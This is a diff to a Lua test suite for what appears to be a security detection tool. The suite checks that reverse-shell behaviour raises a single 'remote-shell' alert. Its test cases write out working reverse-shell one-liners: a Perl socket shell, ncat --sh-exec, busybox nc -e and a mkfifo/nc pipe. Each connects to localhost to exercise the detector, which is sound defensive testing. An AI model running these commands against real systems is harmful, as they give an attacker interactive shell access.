@@ -16,8 +16,7 @@ local function expect_shell(act, fields, programs)
     assert.equal(peer, alert.moonwatch.evidence.peer)
     assert.equal("critical", alert.log.level)
     assert.same({ "T1059.004", "T1071" }, alert.threat.technique.id)
-    for _, other in ipairs(run.alerts) do assert.equal("remote-shell", other.rule.id, other.message) end
-    assert.truthy(#run.alerts <= 2, ("%d alerts for one act"):format(#run.alerts))
+    assert.equal(1, #run.alerts, "alerts for one act: " .. e2e.list(run.alerts))
   end, programs
 end
 
@@ -31,7 +30,7 @@ local function is_called(act)
   return [[
 PORT=$((20000 + RANDOM % 10000))
 ]] .. act .. [[ &
-peer call "$DIR/got" $PORT
+peer call "$DIR/got" $PORT >"$DIR/port"
 wait
 ]]
 end
@@ -69,7 +68,7 @@ open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")
   out("ncat --sh-exec", "ncat --sh-exec \"exec /bin/bash -i\" 127.0.0.1 $PORT; true", { ["process.name"] = "bash" }, "ncat")
   out("busybox nc -e", "busybox nc 127.0.0.1 $PORT -e /bin/sh; true", { ["process.name"] = "dash" }, "busybox nc.traditional")
   out("mkfifo and nc", "cd $DIR; mkfifo f; cat f | sh -i 2>&1 | nc.openbsd -N 127.0.0.1 $PORT >f; true",
-    { ["process.name"] = "dash" }, "nc.openbsd")
+    {}, "nc.openbsd")
 end)
 
 describe("a shell behind a port", function()
